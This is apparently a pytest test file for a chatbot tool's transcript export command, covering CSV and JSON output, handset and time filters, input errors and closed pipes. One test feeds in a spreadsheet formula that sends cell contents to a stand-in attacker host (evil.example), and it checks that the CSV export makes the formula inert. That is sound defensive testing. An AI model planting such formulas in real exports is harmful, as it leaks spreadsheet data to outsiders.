"""botkit export transcripts: every message in thread order, as CSV or JSON, filtered."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
import subprocess
from zoneinfo import ZoneInfo

import pytest
from conftest import eventually, rows
from servers import BOTKIT

from botkit.cli import main
from botkit.clock import parse_stamp
from botkit.db import Database, Tx
from botkit.store.transcripts import COLUMNS

pytestmark = pytest.mark.backends

ADA, BOB = "+61400000001", "+61400000002"


@pytest.fixture
async def conversations(app, settings):
    """Two handsets' conversations with the hello bot, every DLR in."""
    sim = app.state.simulator
    turns = ((ADA, "hello", 1), (BOB, "hi", 1), (ADA, "Ada, Countess", 2), (BOB, 'Bob "B"', 2))
    for phone, text, replies in turns:
        await sim.send_mo(phone, text)
        await eventually(lambda p=phone, n=replies: len(sim.inbox(p)) == n)
    await eventually(
        lambda: len(rows(settings.db, "SELECT * FROM deliveries WHERE status = 'received'")) == 4
    )
    return sim


async def export(*args: str, capsys) -> tuple[int, str, str]:
    """Run `botkit export ...` in-process (off the event loop the app runs on)."""
    code = await asyncio.to_thread(main, ["export", *args])
    out, err = capsys.readouterr()
    return code, out, err


def expected(db, where: str = "1 = 1", params: tuple = ()) -> list[dict[str, str]]:
    """The rows an export should hold, read from the database file as text."""
    found = rows(
        db,
        f"""SELECT m.thread_id, m.id AS message_id, t.bot, m.direction, m.handset, m.address,
                   m.content, m.encoding, m.template, m.status, m.delivery, m.gateway_id,
                   m.created_at, m.flags
            FROM messages m LEFT JOIN threads t ON t.id = m.thread_id
            WHERE {where} ORDER BY m.thread_id NULLS FIRST, m.id""",
        params,
    )
    return [{k: "" if row[k] is None else str(row[k]) for k in COLUMNS} for row in found]


async def test_csv_holds_every_message_of_the_round_trip_in_thread_order(
    conversations, settings, tmp_path, capsys
):
    sim = conversations
    output = tmp_path / "transcripts.csv"
    code, out, err = await export(
        "transcripts", "--format", "csv", "--output", str(output), "--db", settings.db,
        capsys=capsys,
    )  # fmt: skip
    assert (code, out, err) == (0, "", "")
    with output.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == COLUMNS
        exported = list(reader)

    assert exported == expected(settings.db)
    for phone in (ADA, BOB):
        thread = [r for r in exported if r["handset"] == phone]
        assert len({r["thread_id"] for r in thread}) == 1
        assert [r["direction"] for r in thread] == ["mo", "mt", "mo", "mt"]
        assert [r["content"] for r in thread if r["direction"] == "mo"] == [
            m.content for m in sim.mos if m.source == phone
        ]
        mts = [r for r in thread if r["direction"] == "mt"]
        assert [r["content"] for r in mts] == [m.content for m in sim.inbox(phone)]
        assert [r["gateway_id"] for r in mts] == [str(m.id) for m in sim.inbox(phone)]
        assert [r["template"] for r in mts] == ["hello/ask_name.txt", "hello/greet.txt"]
        assert {(r["bot"], r["address"], r["delivery"]) for r in mts} == {
            ("hello", "4433", "received")
        }


async def test_json_to_stdout_parses_and_matches(conversations, settings, capsys):
    code, out, err = await export(
        "transcripts", "--format", "json", "--db", settings.db, capsys=capsys
    )
    assert (code, err) == (0, "")
    exported = json.loads(out)
    assert [{k: "" if v is None else str(v) for k, v in r.items()} for r in exported] == (
        expected(settings.db)
    )
    assert all(isinstance(r["gateway_id"], str) for r in exported)  # 64-bit: kept exact
    assert all(isinstance(r["thread_id"], int) for r in exported)


async def test_number_filters_one_handset(conversations, settings, capsys):
    code, out, _ = await export(
        "transcripts", "--format", "json", "--number", "+61 400 000 002", "--db", settings.db,
        capsys=capsys,
    )  # fmt: skip
    assert code == 0
    assert {r["handset"] for r in json.loads(out)} == {BOB}
    assert len(json.loads(out)) == 4


@pytest.mark.parametrize("zone", [None, "Australia/Sydney"])
async def test_since_keeps_messages_from_that_moment_on(
    conversations, settings, capsys, monkeypatch, zone
):
    (middle,) = rows(settings.db, "SELECT created_at FROM messages ORDER BY id LIMIT 1 OFFSET 4")
    since = parse_stamp(middle[0]).isoformat()  # with an offset
    if zone is not None:  # without one: wall-clock time in BOTKIT_TIMEZONE
        monkeypatch.setenv("BOTKIT_TIMEZONE", zone)
        since = parse_stamp(middle[0]).astimezone(ZoneInfo(zone)).replace(tzinfo=None).isoformat()
    code, out, _ = await export(
        "transcripts", "--format", "csv", "--since", since, "--db", settings.db, capsys=capsys
    )
    assert code == 0
    exported = list(csv.DictReader(io.StringIO(out)))
    assert exported == expected(settings.db, "m.created_at >= ?", (middle[0],))
    assert 0 < len(exported) < 8

    for everything in ("2000-01-01", "2000-01-01T10:00"):
        _, out, _ = await export(
            "transcripts", "--format", "csv", "--since", everything, "--db", settings.db,
            capsys=capsys,
        )  # fmt: skip
        assert len(list(csv.DictReader(io.StringIO(out)))) == 8
    _, out, _ = await export(
        "transcripts", "--format", "json", "--since", "2999-01-01", "--db", settings.db,
        capsys=capsys,
    )  # fmt: skip
    assert json.loads(out) == []


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--number", "0400000000"], "--number: '0400000000' is not in international format"),
        (["--number", "+61"], "--number"),
        (["--since", "yesterday"], "--since: 'yesterday' is not an ISO date or time"),
        (["--since", "2026-13-01"], "--since"),
        (["--db", "missing.db"], "missing.db does not exist"),
    ],
)
def test_bad_input_is_a_clear_error(tmp_path, monkeypatch, capsys, args, message):
    monkeypatch.chdir(tmp_path)
    sqlite3.connect("botkit.db").close()
    code = main(["export", "transcripts", "--format", "csv", "--db", "botkit.db", *args])
    out, err = capsys.readouterr()
    assert (code, out) == (2, "")
    assert message in err
    assert not (tmp_path / "missing.db").exists()


def test_a_format_is_required(capsys):
    with pytest.raises(SystemExit) as exited:
        main(["export", "transcripts"])
    assert exited.value.code == 2
    assert "--format" in capsys.readouterr().err


async def test_piped_output_is_clean_and_a_closed_pipe_ends_quietly(conversations, settings):
    async def fill(tx: Tx) -> None:
        for n in range(5000):
            await tx.execute(
                """INSERT INTO messages (direction, handset, content, encoding, status,
                       created_at, updated_at)
                   VALUES ('mo', ?, ?, 'GSM-7', 'handled', '2026-01-01T00:00:00.000000Z', '')""",
                (ADA, f"message {n} " + "x" * 100),
            )

    database = await Database.open(settings.db)
    try:
        await database.write(fill)
    finally:
        await database.close()

    def run_and_hang_up() -> tuple[str, int, str]:
        with subprocess.Popen(
            [BOTKIT, "export", "transcripts", "--format", "csv", "--db", settings.db],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        ) as process:
            assert process.stdout is not None and process.stderr is not None
            header = process.stdout.readline()
            process.stdout.close()  # as `| head -1` does
            return header, process.wait(timeout=30), process.stderr.read()

    header, code, err = await asyncio.to_thread(run_and_hang_up)
    assert header.strip() == ",".join(COLUMNS)
    assert code == 1 and err == ""  # no progress bar on a pipe, no traceback

    done = await asyncio.to_thread(
        subprocess.run,
        [BOTKIT, "export", "transcripts", "--format", "csv", "--db", settings.db],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert len(list(csv.DictReader(io.StringIO(done.stdout)))) == 5008


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"not a database " * 100, "is not a SQLite database"), (b"", "no botkit messages table")],
)
def test_a_file_that_is_not_a_botkit_database_is_a_clear_error(tmp_path, capsys, content, message):
    path = tmp_path / "other.db"
    path.write_bytes(content)  # empty: a SQLite database without tables
    code = main(["export", "transcripts", "--format", "json", "--db", str(path)])
    out, err = capsys.readouterr()
    assert (code, out) == (2, "")
    assert message in err


async def test_text_a_spreadsheet_would_run_is_inert_in_csv_and_verbatim_in_json(
    app, settings, capsys
):
    sim = app.state.simulator
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await sim.send_mo(ADA, formula)
    await eventually(lambda: rows(settings.db, "SELECT 1 FROM messages WHERE status = 'handled'"))
    code, out, _ = await export("transcripts", "--db", str(settings.db), "--format", "csv",
                                capsys=capsys)  # fmt: skip
    assert code == 0
    mo = next(row for row in csv.DictReader(io.StringIO(out)) if row["direction"] == "mo")
    assert mo["content"] == "'" + formula
    assert mo["handset"] == ADA  # a number with its + is not a formula
    code, out, _ = await export("transcripts", "--db", str(settings.db), "--format", "json",
                                capsys=capsys)  # fmt: skip
    assert any(message["content"] == formula for message in json.loads(out))


async def test_what_was_done_to_keep_a_message_is_exported(client, settings, capsys):
    mo = {"id": "9", "source": ADA, "destination": "4433", "content": "hi", "reference": "r" * 60}
    assert (await client.get("/callbacks/test-token/mo", params=mo)).status_code == 200
    for fmt in ("csv", "json"):
        code, out, _ = await export("transcripts", "--format", fmt, "--db", settings.db,
                                    capsys=capsys)  # fmt: skip
        assert code == 0
        exported = list(csv.DictReader(io.StringIO(out))) if fmt == "csv" else json.loads(out)
        (kept,) = [row for row in exported if row["direction"] == "mo"]
        assert kept["flags"] == "reference-truncated"
